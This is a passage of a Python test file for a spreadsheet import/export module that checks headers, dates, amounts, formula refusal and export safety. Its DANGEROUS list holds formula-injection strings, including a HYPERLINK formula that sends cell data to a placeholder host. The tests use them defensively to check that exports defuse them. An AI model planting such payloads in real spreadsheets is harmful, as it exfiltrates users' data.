    ' xmlns:x14ac="http://schemas.microsoft.com/office/spreadsheetml/2009/9/ac"'
    ' xmlns:xr="http://schemas.microsoft.com/office/spreadsheetml/2014/revision" xr:uid="{0B6C5A5E-1}"'
)
EXCEL_HEAD = (
    '<dimension ref="A1:B3"/><sheetViews><sheetView tabSelected="1" workbookViewId="0"/></sheetViews>'
    '<sheetFormatPr defaultRowHeight="14.25" x14ac:dyDescent="0.2"/><cols><col min="1" max="2" width="20"/></cols>'
)
# Excel keeps list validations that point at another sheet in extLst, as <xm:f> - not a cell formula.
EXCEL_TAIL = (
    '<pageMargins left="0.7" right="0.7" top="0.75" bottom="0.75" header="0.3" footer="0.3"/>'
    '<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}" '
    'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main">'
    '<x14:dataValidations count="1" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
    '<x14:dataValidation type="list" allowBlank="1" showInputMessage="1" showErrorMessage="1">'
    "<x14:formula1><xm:f>下拉选项!$A$1:$A$52</xm:f></x14:formula1><xm:sqref>C2:C1000</xm:sqref>"
    "</x14:dataValidation></x14:dataValidations></ext></extLst>"
)


@pytest.mark.filterwarnings("ignore:Data Validation extension")
@pytest.mark.parametrize("engine", ENGINES)
def test_excel_file_with_validation_lists_stays_on_the_fast_path(monkeypatch, engine):
    rows = (
        '<row r="1" spans="1:2" x14ac:dyDescent="0.2"><c r="A1" s="1" t="inlineStr"><is><t>姓名</t></is></c>'
    )
    rows += '<c r="B1" s="1" t="inlineStr"><is><t>公民身份号码</t></is></c></row>'
    rows += cells(2, ["张三", "110105199001011234"])
    data = xlsx(worksheet(rows, head=EXCEL_HEAD, tail=EXCEL_TAIL, attrs=EXCEL_ATTRS))

    def slow(*args):
        raise AssertionError("a plain Excel file should not need the exact scan")

    monkeypatch.setattr(inspection, "_exact_scan", slow)  # where `_scan_sheet` looks it up
    assert [row.values["姓名"] for row in read_rows(data, required=REQUIRED, engine=engine).rows] == ["张三"]
    monkeypatch.undo()
    # The exact scan, when something else sends a file there, ignores extLst too.
    data = xlsx(
        worksheet("<row>" + rows[rows.index(">") + 1 :], head=EXCEL_HEAD, tail=EXCEL_TAIL, attrs=EXCEL_ATTRS)
    )
    inspect_xlsx(data)


def test_rows_after_sheet_data_are_refused():
    # openpyxl reads every <row> in the part, calamine only those inside the first <sheetData>.
    sheet = worksheet(
        table([REQUIRED]), tail='<sheetData><row r="2"><c r="XFD2"><v>1</v></c></row></sheetData>'
    )
    refused(FILE_CORRUPT, inspect_xlsx, xlsx(sheet))
    empty = worksheet("", tail=EXCEL_TAIL).replace("<sheetData></sheetData>", "<sheetData/>")
    empty_then_rows = empty.replace("<pageMargins", '<row r="9"><c r="A9"><v>1</v></c></row><pageMargins')
    inspect_xlsx(xlsx(empty))
    refused(FILE_CORRUPT, inspect_xlsx, xlsx(empty_then_rows))


# --- F7: formulas ------------------------------------------------------------------------------------------


def test_formula_with_cached_value_is_refused_naming_the_cell():
    sheet = worksheet(
        table([REQUIRED, ["张三", "1"], ["李四", "2"]])
        + '<row r="5"><c r="A5" t="inlineStr"><is><t>王五</t></is></c>'
        '<c r="C5"><f>SUM(1,1)</f><v>2</v></c></row>'
    )
    error = refused(str(FILE_FORMULAS).format(cells="C5"), read_rows, xlsx(sheet), required=REQUIRED)
    assert error.messages == ["单元格 C5 含有公式，请复制后“选择性粘贴—数值”再上传"]


def test_formulas_without_cached_value_and_shared_formulas_are_refused():
    sheet = worksheet(
        cells(1, REQUIRED)
        + '<row r="2"><c r="B2" t="str"><f>"1101"&amp;"05"</f></c></row>'
        + '<row r="3"><c r="B3"><f t="shared" ref="B3:B4" si="0">A3*2</f><v>4</v></c></row>'
        + '<row r="4"><c r="B4"><f t="shared" si="0"/><v>99999</v></c></row>'  # forged cached value
    )
    refused(str(FILE_FORMULAS).format(cells="B2、B3、B4"), inspect_xlsx, xlsx(sheet))


def test_formula_list_is_cut_short():
    formulas = "".join(f'<row r="{n}"><c r="A{n}"><f>1+{n}</f><v>1</v></c></row>' for n in range(2, 100))
    error = refused(
        str(FILE_FORMULAS).format(cells="A2、A3、A4、A5、A6"), inspect_xlsx, xlsx(worksheet(formulas))
    )
    assert "A7" not in error.messages[0]


# --- DESIGN.md §5: headers, rows, sheets ---------------------------------------------------------------------


@pytest.mark.parametrize("engine", ENGINES)
def test_shared_and_inline_strings_both_read(engine):
    # Excel and WPS write shared strings (t="s"), openpyxl and LibreOffice exports inline strings.
    shared = (
        f'<sst xmlns="{MAIN_NS}" count="3" uniqueCount="3"><si><t>姓名</t></si><si><t>公民身份号码</t></si>'
        "<si><r><t>张</t></r><r><rPr><b/></rPr><t>三</t></r></si></sst>"
    )
    sheet = worksheet(
        '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
        '<row r="2"><c r="A2" t="s"><v>2</v></c><c r="B2" t="inlineStr"><is><t>110105199001011234</t></is></c>'
        '<c r="C2" t="b"><v>1</v></c></row>'
    )
    result = read_rows(
        xlsx(sheet, shared_strings=shared), required=REQUIRED, optional=["备注"], engine=engine
    )
    assert result.rows[0].values == {"姓名": "张三", "公民身份号码": "110105199001011234", "备注": None}


def build_with_openpyxl(tmp_path, fill) -> str:
    workbook = openpyxl.Workbook()
    fill(workbook)
    path = tmp_path / "return.xlsx"
    workbook.save(path)
    return str(path)


@pytest.mark.parametrize("engine", ENGINES)
def test_header_below_merged_title_rows(tmp_path, engine):
    def fill(workbook):
        ws = workbook.active
        ws.title = "季度报表"
        ws["A1"] = "万州区2025年第一季度农民工就近就业花名册"
        ws.merge_cells("A1:E1")
        ws["A2"] = "填报单位：甘宁镇"
        ws.append(["序号", " 姓 名 *", "公民身份号码＊", "联系电话", "就业时间"])
        ws.append([1, "张三", "110105199001011234", 13800138000, datetime(2025, 3, 15)])
        ws.append([])
        ws.append([None, None, None, None, None])
        ws.append([3, "李四", "500101199001011234", None, "2025/3/16"])

    result = read_rows(
        build_with_openpyxl(tmp_path, fill), required=REQUIRED, optional=OPTIONAL, engine=engine
    )
    assert result.header_row == 3
    assert result.sheet_name == "季度报表"
    assert result.columns == {"姓名": 1, "公民身份号码": 2, "联系电话": 3, "就业时间": 4}
    assert [row.number for row in result.rows] == [4, 7]
    first, second = result.rows
    assert first.values["姓名"] == "张三"
    assert clean_text(first.values["联系电话"]) == "13800138000"
    assert parse_date(first.values["就业时间"]) == date(2025, 3, 15)
    assert second.values == {
        "姓名": "李四",
        "公民身份号码": "500101199001011234",
        "联系电话": None,
        "就业时间": "2025/3/16",
    }
    assert result.warnings == [str(UNKNOWN_COLUMNS_IGNORED).format(headers="“序号”")]


def test_header_names_match_after_nfkc_and_spaces():
    header = ["\u3000姓\u3000名＊", "公民身份号码(必填)", "月收入（元）", "是否\n返乡", "\u200b联系电话"]
    result = read_rows(
        simple_file([header, ["张三", "1", 3500, "是", "138"]]),
        required=REQUIRED + ["月收入（元）"],
        optional=["是否返乡", "联系电话"],
    )
    assert result.columns == {"姓名": 0, "公民身份号码": 1, "月收入（元）": 2, "是否返乡": 3, "联系电话": 4}
    assert result.warnings == []


ALIASES = {"公民身份号码": ["身份证号码", "证件号码"], "就业时间": ["入职时间"], "联系电话": ["手机号"]}


def test_headers_are_found_by_their_aliases():
    header = ["姓名", "身份证号码 *", "入职时间", "手机号（选填）"]
    data = simple_file([header, ["张三", "1", "2025-03-15", "138"]])
    result = read_rows(data, required=REQUIRED, optional=OPTIONAL, aliases=ALIASES)
    assert result.columns == {"姓名": 0, "公民身份号码": 1, "就业时间": 2, "联系电话": 3}
    assert result.rows[0].values == {
        "姓名": "张三",
        "公民身份号码": "1",
        "就业时间": "2025-03-15",
        "联系电话": "138",
    }
    assert result.warnings == []
    # Aliases of headers not asked for are left out; one spelling for two headers is a mistake of the caller.
    assert read_rows(data, required=REQUIRED, aliases=ALIASES).columns == {"姓名": 0, "公民身份号码": 1}
    with pytest.raises(ValueError):
        read_rows(data, required=REQUIRED, optional=OPTIONAL, aliases={"就业时间": ["姓名"]})


def test_two_spellings_of_one_header_are_a_duplicate():
    data = simple_file([["姓名", "身份证号码", "公民身份号码"], ["张三", "1", "1"]])
    refused(
        str(HEADER_DUPLICATE).format(header="公民身份号码"),
        read_rows,
        data,
        required=REQUIRED,
        aliases=ALIASES,
    )


def test_a_header_a_character_off_is_taken_for_the_closest_with_a_warning():
    header = ["姓名", "身分证号码", "就业日其", "联系电活"]  # 份 → 分, 期 → 其, 话 → 活
    data = simple_file([header, ["张三", "1", "2025-03-15", "138"]])
    result = read_rows(
        data, required=REQUIRED, optional=OPTIONAL, aliases={**ALIASES, "就业时间": ["就业日期"]}
    )
    assert result.columns == {"姓名": 0, "公民身份号码": 1, "就业时间": 2, "联系电话": 3}
    assert result.warnings == [
        str(HEADER_TAKEN_AS).format(header="身分证号码", name="公民身份号码"),
        str(HEADER_TAKEN_AS).format(header="就业日其", name="就业时间"),
        str(HEADER_TAKEN_AS).format(header="联系电活", name="联系电话"),
    ]


@pytest.mark.parametrize(
    "header",
    [
        ["姓名", "公民身份号码", "姓"],  # two characters or fewer: only exact
        ["姓名", "公民身份号码", "紧急联系电话"],  # two edits off a four-character header
        ["姓名", "公民身份号码", "就业地间"],  # one edit off 就业时间 and off 就业地点: no guess
    ],
)
def test_headers_not_close_enough_or_ambiguous_are_ignored(header):
    data = simple_file([header, ["张三", "1", "x"]])
    result = read_rows(data, required=REQUIRED, optional=[*OPTIONAL, "就业地点"])
    assert result.columns == {"姓名": 0, "公民身份号码": 1}
    assert result.warnings == [str(UNKNOWN_COLUMNS_IGNORED).format(headers=f"“{header[2]}”")]


@pytest.mark.parametrize("engine", ENGINES)
def test_a_header_over_two_rows_with_a_merged_group_cell_is_read_as_one(tmp_path, engine):
    def fill(workbook):
        ws = workbook.active
        ws["A1"] = "万州区甘宁镇2025年第一季度花名册"
        ws.merge_cells("A1:D1")
        ws.append(["姓名", "公民身份号码", "就业情况", None])
        ws.append([None, None, "入职时间", "联系电话"])
        ws.merge_cells("A2:A3")
        ws.merge_cells("B2:B3")
        ws.merge_cells("C2:D2")
        ws.append(["张三", "1", "2025-03-15", "138"])

    result = read_rows(
        build_with_openpyxl(tmp_path, fill),
        required=REQUIRED,
        optional=OPTIONAL,
        aliases=ALIASES,
        engine=engine,
    )
    assert result.header_row == 3
    assert result.columns == {"姓名": 0, "公民身份号码": 1, "就业时间": 2, "联系电话": 3}
    assert [(row.number, row.values["就业时间"]) for row in result.rows] == [(4, "2025-03-15")]
    assert result.warnings == []


def test_missing_required_headers_are_all_named():
    data = simple_file([["标题"], ["姓名", "联系电话"], ["张三", "138"]])
    required = ["姓名", "公民身份号码", "就业时间"]
    error = refused(
        str(HEADER_MISSING).format(rows=10, headers="“公民身份号码”、“就业时间”"),
        read_rows,
        data,
        required=required,
    )
    assert error.messages == ["在前 10 行中找不到表头，缺少必填列：“公民身份号码”、“就业时间”"]


def test_header_beyond_the_search_rows_is_not_found():
    data = simple_file([["标题"]] * 10 + [REQUIRED, ["张三", "1"]])
    refused(
        str(HEADER_MISSING).format(rows=10, headers="“姓名”、“公民身份号码”"),
        read_rows,
        data,
        required=REQUIRED,
    )


def test_duplicate_header_is_refused():
    data = simple_file([["姓名", "公民身份号码", "姓名 *"], ["张三", "1", "李四"]])
    refused(str(HEADER_DUPLICATE).format(header="姓名"), read_rows, data, required=REQUIRED)


def test_columns_in_any_order_and_rows_keyed_by_header():
    data = simple_file([["备注", "公民身份号码", "姓名"], ["x", "1", "张三"], ["只有备注", None, None]])
    result = read_rows(data, required=REQUIRED)
    assert result.columns == {"公民身份号码": 1, "姓名": 2}
    assert [row.values for row in result.rows] == [
        {"公民身份号码": "1", "姓名": "张三"}
    ]  # row 3 is blank for us


@pytest.mark.parametrize("engine", ENGINES)
def test_whitespace_only_cells_are_empty(engine):
    data = simple_file([REQUIRED, ["  ", "\u3000"], ["张三", " 1 "]])
    result = read_rows(data, required=REQUIRED, engine=engine)
    assert [(row.number, row.values["公民身份号码"]) for row in result.rows] == [
        (3, " 1 ")
    ]  # raw, not trimmed


def test_second_sheet_with_data_and_hidden_sheets_are_reported():
    data = xlsx(
        ("报表", worksheet(table([REQUIRED, ["张三", "1"]])), None),
        ("草稿", worksheet(table([["旧数据"]])), None),
        ("Sheet3", worksheet(""), None),
        ("下拉选项", worksheet(""), "hidden"),
    )
    result = read_rows(data, required=REQUIRED)
    assert result.sheet_name == "报表"
    assert result.warnings == [
        str(OTHER_SHEETS_IGNORED).format(sheet="报表", sheets="“草稿”、“下拉选项”（隐藏）")
    ]


def test_hidden_first_sheet_is_read_with_a_warning():
    data = xlsx(
        ("隐藏表", worksheet(table([REQUIRED, ["张三", "1"]])), "hidden"),
        ("Sheet2", worksheet(""), None),
    )
    result = read_rows(data, required=REQUIRED)
    assert len(result.rows) == 1
    assert result.warnings == [str(FIRST_SHEET_HIDDEN).format(sheet="隐藏表")]


def test_upload_objects_paths_and_bytes_are_accepted(tmp_path):
    data = simple_file()
    path = tmp_path / "a.xlsx"
    path.write_bytes(data)
    upload = SimpleUploadedFile("季度报表.xlsx", data)
    for source in (data, str(path), path, upload, io.BytesIO(data)):
        assert read_rows(source, required=REQUIRED).rows[0].values["姓名"] == "张三"
    inspect_xlsx(SimpleUploadedFile("a.xlsx", data))


@pytest.mark.parametrize("engine", ENGINES)
def test_dates_and_numbers_come_back_as_the_reader_gives_them(tmp_path, engine):
    def fill(workbook):
        ws = workbook.active
        ws.append(REQUIRED + ["就业时间", "月收入（元）"])
        ws.append(["张三", "1", date(2025, 3, 15), 3500])
        ws.append(["李四", "2", 45731, 3500.5])  # an unformatted serial (F17)

    result = read_rows(
        build_with_openpyxl(tmp_path, fill),
        required=REQUIRED,
        optional=["就业时间", "月收入（元）"],
        engine=engine,
    )
    first, second = (row.values for row in result.rows)
    assert isinstance(first["就业时间"], date)
    assert parse_date(first["就业时间"]) == parse_date(second["就业时间"]) == date(2025, 3, 15)
    assert parse_amount(first["月收入（元）"]) == Decimal(3500)
    assert parse_amount(second["月收入（元）"]) == Decimal("3500.5")


# --- Cell helpers (F9, F17) --------------------------------------------------------------------------------------


def test_clean_text():
    assert clean_text(None) == ""
    assert clean_text(13800138000.0) == "13800138000"
    assert clean_text(3500.5) == "3500.5"
    assert clean_text("\u3000 张三 ") == "张三"
    assert clean_text("１１０１０５") == "110105"
    assert clean_text(datetime(2025, 3, 15)) == "2025-03-15"
    assert clean_text(date(2025, 3, 15)) == "2025-03-15"


@pytest.mark.parametrize(
    "value",
    [
        date(2025, 3, 15),
        datetime(2025, 3, 15, 9, 30),
        "2025-03-15",
        "2025/3/15",
        "2025.3.15",
        "2025年3月15日",
        "2025年03月15日",
        "20250315",
        20250315,
        "２０２５／３／１５",
        " 2025-3-15 ",
        "2025-03-15 00:00:00",
        45731,
        45731.0,
        45731.75,
        "45731",
        Decimal("45731"),
    ],
)
def test_parse_date_accepts(value):
    assert parse_date(value) == date(2025, 3, 15)


def test_parse_date_edges_of_excel_serials():
    assert parse_date("2023.1.1") == date(2023, 1, 1)
    assert parse_date(44927) == date(2023, 1, 1)
    assert parse_date(1) == date(1900, 1, 1)
    assert parse_date(59) == date(1900, 2, 28)
    assert parse_date(61) == date(1900, 3, 1)


@pytest.mark.parametrize(
    "value, shown",
    [
        (60, "60"),  # the fictitious 1900-02-29 of Excel's 1900 date system
        ("60", "60"),
        (0, "0"),
        (-5, "-5"),
        (0.5, "0.5"),
        ("1900-02-29", "1900-02-29"),
        ("2025-02-30", "2025-02-30"),
        ("2025-3/15", "2025-3/15"),
        ("15/3/2025", "15/3/2025"),
        ("明天", "明天"),
        (True, "True"),
        (float("nan"), "nan"),
        (99_999_999, "99999999"),
    ],
)
def test_parse_date_refuses(value, shown):
    error = refused(str(DATE_INVALID).format(value=shown), parse_date, value)
    assert "2025年3月15日" in error.messages[0]


def test_parse_date_empty():
    refused(VALUE_REQUIRED, parse_date, None)
    refused(VALUE_REQUIRED, parse_date, "  ")


@pytest.mark.parametrize("value", ["是", "Y", "y", "yes", "1", 1, 1.0, "true", "TRUE", True, "√", " 是 "])
def test_parse_yes(value):
    assert parse_yes_no(value) is True


@pytest.mark.parametrize("value", ["否", "N", "n", "no", "0", 0, "false", False, None, "", "  "])
def test_parse_no(value):
    assert parse_yes_no(value) is False


def test_parse_yes_no_refuses():
    refused(str(YES_NO_INVALID).format(value="也许"), parse_yes_no, "也许")
    refused(str(YES_NO_INVALID).format(value="2"), parse_yes_no, 2)


@pytest.mark.parametrize(
    "value, expected",
    [
        ("3,500", Decimal("3500")),
        ("3500.00", Decimal("3500.00")),
        ("3500元", Decimal("3500")),
        ("￥3,500.50元", Decimal("3500.50")),
        ("３５００", Decimal("3500")),
        (3500, Decimal("3500")),
        (3500.5, Decimal("3500.5")),
        (0.1, Decimal("0.1")),
        (Decimal("12.30"), Decimal("12.30")),
        ("-100", Decimal("-100")),  # the sign is the domain's rule
    ],
)
def test_parse_amount(value, expected):
    assert parse_amount(value) == expected


@pytest.mark.parametrize(
    "value", ["三千五", "3,50", "1,2,3", "1e5", "3500.", True, float("inf"), date(2025, 1, 1)]
)
def test_parse_amount_refuses_text(value):
    refused(str(AMOUNT_INVALID).format(value=clean_text(value)), parse_amount, value)


def test_parse_amount_empty():
    refused(VALUE_REQUIRED, parse_amount, None)


# --- E5–E7: writing ------------------------------------------------------------------------------------------------

DANGEROUS = [
    '=HYPERLINK("http://x/?"&B1,"点击")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1",
    "\n=1",
    "#N/A",
]


def test_exported_text_stays_text(tmp_path):
    path = tmp_path / "export.xlsx"
    rows = [[value, 1, date(2025, 3, 15), Decimal("3500.50"), None] for value in DANGEROUS]
    write_xlsx(
        path,
        [("通报表", ["姓名", "数量", "日期", "金额", "备注"], iter(rows))],
        title="2025年3月通报",
        note="导出人：张三 2025-03-31 10:00",
    )
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    assert 't="inlineStr"' in sheet_xml

    ws = openpyxl.load_workbook(path)["通报表"]
    assert ws["A1"].value == "2025年3月通报" and ws["A1"].font.b
    assert ws["A2"].value == "导出人：张三 2025-03-31 10:00"
    assert [cell.value for cell in ws[3]] == ["姓名", "数量", "日期", "金额", "备注"]
    assert ws["A3"].font.b
    assert ws.freeze_panes == "A4"
    for index, value in enumerate(DANGEROUS, start=4):
        # A bare CR in the XML is read as LF by the standard library's parser and kept by lxml (which
        # openpyxl uses when it is installed, as python-docx brings it): either way it stays text.
        assert ws.cell(row=index, column=1).value in {value, value.replace("\r", "\n")}
        assert ws.cell(row=index, column=1).data_type == "s"
    assert ws["B4"].value == 1 and ws["D4"].value == 3500.5

    # Our own export passes our own upload checks: title rows skipped, no formula anywhere.
    result = read_rows(path, required=["姓名", "金额"])
    assert result.header_row == 3
    assert result.rows[0].values["姓名"] == DANGEROUS[0]


def test_safe_cell_keeps_text_as_text():
    ws = openpyxl.Workbook(write_only=True).create_sheet()
    written = [safe_cell(ws, value) for value in ["=1+1", "#N/A", 3, None]]
    assert [(cell.value, cell.data_type) for cell in written] == [
        ("=1+1", "s"),
        ("#N/A", "s"),
        (3, "n"),
        (None, "n"),
    ]


def test_write_safe_row_on_a_normal_sheet():
    workbook = openpyxl.Workbook()
    ws = workbook.active
    write_safe_row(ws, ["=1+1", 2, "a\x01b"])
    write_safe_row(ws, ["@x", None])
    buffer = io.BytesIO()
    workbook.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    reloaded = openpyxl.load_workbook(buffer).active
    assert [cell.value for cell in reloaded[1]] == ["=1+1", 2, "ab"]
    assert reloaded["A2"].value == "@x"


def test_write_xlsx_cleans_sheet_names_and_lazy_text():
    buffer = io.BytesIO()
    write_xlsx(
        buffer, [("a/b:c*?[x]", [gettext_lazy("姓名")], [[gettext_lazy("是")]]), ("A/B:C*?[X]", [], [])]
    )
    workbook = openpyxl.load_workbook(buffer)
    assert workbook.sheetnames == ["a_b_c___x_", "A_B_C___X_(2)"]
    assert workbook.worksheets[0]["A1"].value == "姓名"
    assert workbook.worksheets[0]["A2"].value == "是"


@pytest.mark.parametrize("value", DANGEROUS[:-1] + ["\0=1"])
def test_csv_safe_prefixes_formula_triggers(value):
    assert csv_safe(value) == "'" + value
    assert safe_cell_value(value) == "'" + value.replace("\0", "")


def test_csv_safe_leaves_data_alone():
    assert csv_safe("张三") == "张三"
    assert csv_safe("#N/A") == "#N/A"
    assert csv_safe(-5) == "-5"  # a number, not text: nothing to defuse
    assert csv_safe(Decimal("-3.50")) == "-3.50"
    assert csv_safe(None) == ""
    assert csv_safe(gettext_lazy("=是")) == "'=是"
    assert safe_cell_value(3) == 3
    assert safe_cell_value("a\x0bb") == "ab"


def test_module_limits_are_the_documented_defaults():
    assert spreadsheets.MAX_BYTES == 20 * MB
    assert spreadsheets.MAX_UNCOMPRESSED == 200 * MB
    assert spreadsheets.MAX_ROWS == 100_000
    assert spreadsheets.MAX_COLS == 200
